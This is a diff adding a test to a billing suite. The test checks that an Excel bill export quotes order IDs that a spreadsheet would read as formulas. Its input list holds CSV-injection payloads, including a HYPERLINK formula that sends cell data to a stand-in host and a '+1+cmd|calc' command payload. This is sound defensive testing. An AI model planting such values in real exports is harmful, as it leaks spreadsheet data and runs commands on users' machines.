@@ -102,6 +102,35 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(none.body).toMatchObject({ code: 500, msg: '当前条件没有数据，无法导出' });
   });
 
+  it('exported cells that a spreadsheet would take as a formula get a single quote; amounts stay as they are', async () => {
+    const { server } = t;
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+    for (const [i, requestId] of evil.entries()) {
+      const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '0.01', requestId: `${requestId}${i}` });
+      expect(rc.body.code).toBe(0);
+    }
+    const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
+    expect(r.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(r.raw.rawPayload as any);
+    const ws = wb.worksheets[0];
+    const orderIds: unknown[] = [];
+    const amounts: unknown[] = [];
+    ws.eachRow((row, n) => {
+      if (n === 1) return;
+      orderIds.push(row.getCell(7).value);
+      amounts.push(row.getCell(5).value);
+      // no cell is a formula
+      row.eachCell((c) => expect(c.formula ?? null).toBeNull());
+    });
+    // (the form trims the order number: a leading tab / CR arrives as the formula behind it; safeCell quotes both, tests/server/export-cells.test.ts)
+    for (const [i, requestId] of evil.entries()) expect(orderIds).toContain(`'${requestId.trim()}${i}`);
+    expect(orderIds.some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
+    // negative amounts are numbers, not formulas: unchanged
+    expect(amounts).toContain('-0.01');
+    void server;
+  });
+
   it('credit history: raises and cuts (kinds 9 / 10, the agent-credit CLI), each period ending at the next', async () => {
     const { server } = t;
     server.clock.advance(60_000);
